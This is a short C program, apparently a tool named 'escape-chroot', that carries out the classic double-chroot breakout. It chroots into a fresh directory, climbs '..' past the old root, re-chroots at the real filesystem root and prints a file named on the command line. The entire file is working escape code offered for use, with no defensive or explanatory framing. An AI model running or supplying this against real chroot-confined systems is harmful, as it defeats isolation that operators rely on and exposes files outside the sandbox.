/* The oldest way out: a second chroot leaves the working directory above the root, and ".." has no floor. Prints FILE. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **arguments) {
  char text[256] = {0};
  int above = open("/", O_RDONLY | O_DIRECTORY), file;
  if (count != 2 || above < 0) return perror("usage: escape-chroot FILE"), 2;
  mkdir("/way-out", 0700);
  if (chroot("/way-out") || fchdir(above) || rmdir("way-out")) return perror("chroot"), 2;
  for (int level = 0; level < 64; level++)
    if (chdir("..")) return perror(".."), 2;
  if (chroot(".")) return perror("chroot ."), 2;
  if ((file = open(arguments[1], O_RDONLY)) < 0) return perror("open"), 1;
  if (read(file, text, sizeof text - 1) < 0) return perror("read"), 1;
  puts(text);
  return 0;
}
